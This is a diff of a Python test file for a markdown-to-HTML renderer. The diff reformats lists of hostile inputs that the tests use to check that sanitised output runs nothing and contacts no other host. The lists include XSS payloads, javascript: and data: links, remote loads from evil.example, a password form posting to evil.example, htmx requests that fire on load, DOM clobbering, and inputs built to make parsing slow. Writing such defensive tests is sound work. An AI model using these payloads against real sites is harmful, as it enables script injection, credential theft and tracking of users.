@@ -11,55 +11,38 @@ from kbhub.documents.markdown import parse_document
 from kbhub.render.html import TAGS, Addresses, document_html, part_with
 
 SCRIPTS = [
-    "<script>window.hacked = 1</script>",
-    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
-    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>",
-    "<img src=x onerror=window.hacked=1>",
+    "<script>window.hacked = 1</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>", "<img src=x onerror=window.hacked=1>",
     "<svg onload=window.hacked=1><script>window.hacked=1</script></svg>",
     "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
     "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
     "<details open ontoggle=window.hacked=1>x</details>",
-    "<a href='javascript:window.hacked=1' id=q autofocus>click</a>",
-    "[click](javascript:window.hacked=1)",
+    "<a href='javascript:window.hacked=1' id=q autofocus>click</a>", "[click](javascript:window.hacked=1)",
     "[click](  java\nscript:window.hacked=1)",
-    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
-    "[click](vbscript:x)",
-    "![x](javascript:window.hacked=1)",
-    "[[javascript:window.hacked=1|click]]",
-    "<javascript:window.hacked=1>",
+    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)", "[click](vbscript:x)",
+    "![x](javascript:window.hacked=1)", "[[javascript:window.hacked=1|click]]", "<javascript:window.hacked=1>",
     "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
-    "<object data='data:text/html,<script>window.hacked=1</script>'></object>",
-    "<embed src=//evil.example/x>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>body{display:none}</style>",
-    "<p style='position:fixed;inset:0;background:red'>cover</p>",
-    "<div class='top banner'>disguise</div>",
+    "<object data='data:text/html,<script>window.hacked=1</script>'></object>", "<embed src=//evil.example/x>",
+    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>", "<style>body{display:none}</style>",
+    "<p style='position:fixed;inset:0;background:red'>cover</p>", "<div class='top banner'>disguise</div>",
     "<form action=//evil.example><input name=password><button>OK</button></form>",
     "<form action=/memories/change method=post><input name=id value=x><button autofocus>OK</button></form>",
-    "<input id=q name=q value=evil>",
-    "<img name=body src=x><a id=main>clobber</a>",
+    "<input id=q name=q value=evil>", "<img name=body src=x><a id=main>clobber</a>",
     "<template><script>window.hacked=1</script></template>",
     "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
     "<textarea><img title='</textarea><img src onerror=window.hacked=1>'></textarea>",
-    "<xmp><p title='</xmp><img src onerror=window.hacked=1>'></xmp>",
-    "<!--><img src onerror=window.hacked=1>-->",
-    "<![CDATA[<img src onerror=window.hacked=1>]]>",
-    '```"><script>window.hacked=1</script>\ncode\n```',
-    "```html\n<script>window.hacked=1</script>\n```",
-    "| a |\n|---|\n| <script>window.hacked=1</script> |",
-    "# <img src=x onerror=window.hacked=1>",
-    "![x](https://evil.example/track.png)",
+    "<xmp><p title='</xmp><img src onerror=window.hacked=1>'></xmp>", "<!--><img src onerror=window.hacked=1>-->",
+    "<![CDATA[<img src onerror=window.hacked=1>]]>", '```"><script>window.hacked=1</script>\ncode\n```',
+    "```html\n<script>window.hacked=1</script>\n```", "| a |\n|---|\n| <script>window.hacked=1</script> |",
+    "# <img src=x onerror=window.hacked=1>", "![x](https://evil.example/track.png)",
     "<img src=https://evil.example/track.png srcset='https://evil.example/2.png 2x'>",
     "<video src=//evil.example/v.mp4 autoplay></video><audio src=//evil.example/a.mp3 autoplay></audio>",
-    "<a href=//evil.example/>scheme-relative</a>",
-    "<a href='/memories/change'>into the page</a>",
+    "<a href=//evil.example/>scheme-relative</a>", "<a href='/memories/change'>into the page</a>",
     '<button hx-post=/memories/change hx-trigger=load hx-vals=\'{"action":"forget"}\'>x</button>',
     "<div hx-get=/health hx-trigger=load data-open data-item data-confirm=x>x</div>",
-    "<a ping=//evil.example href=https://good.example>ping</a>",
-    "\u202egnp.tohs\u202c",
-]
+    "<a ping=//evil.example href=https://good.example>ping</a>", "\u202egnp.tohs\u202c",
+]  # fmt: skip
 
 ALLOWED = {
     *("href", "src", "alt", "title", "width", "height", "class", "id", "data-line", "rel", "start", "align", "colspan"),
@@ -105,22 +88,12 @@ def test_nothing_dangerous_is_left():
 @pytest.mark.parametrize(
     "text",
     [
-        "[" * 20_000,
-        "![" * 10_000,
-        "*a_" * 20_000,
-        "> " * 5_000 + "x",
-        "- " * 2_000 + "x",
-        "<" * 50_000,
-        "`" * 20_001,
-        "|" * 5_000 + "\n" + "|-" * 5_000,
-        "<div>" * 5_000,
-        "[[" + "a" * 100_000,
-        "[a](" + "(" * 30_000,
-        "&" * 50_000,
-        "a" * 1_000_000,
+        "[" * 20_000, "![" * 10_000, "*a_" * 20_000, "> " * 5_000 + "x", "- " * 2_000 + "x", "<" * 50_000,
+        "`" * 20_001, "|" * 5_000 + "\n" + "|-" * 5_000, "<div>" * 5_000, "[[" + "a" * 100_000, "[a](" + "(" * 30_000,
+        "&" * 50_000, "a" * 1_000_000,
     ],
     ids=lambda text: text[:6],
-)
+)  # fmt: skip
 def test_a_document_made_to_be_slow_is_not(text):
     began = time.process_time()
     html(text)
@@ -142,12 +115,8 @@ def hostile(environment):
 def test_all_of_it_at_once_in_a_browser(tab):
     """Nothing runs, nothing is asked of another host, and the page's own parts are what they were."""
     paths = (
-        "/read?ref=hostile.md",
-        "/?q=hacked",
-        "/?q=xylophone",
-        "/?q=<script>window.hacked=1</script>",
-        "/documents",
-    )
+        "/read?ref=hostile.md", "/?q=hacked", "/?q=xylophone", "/?q=<script>window.hacked=1</script>", "/documents",
+    )  # fmt: skip
     for path in (*paths, "/graph", "/health", "/ask?q=xylophone", "/gaps"):
         page = tab.go(path)
         page.wait_for_load_state("networkidle") if path != "/health" else page.wait_for_timeout(1)
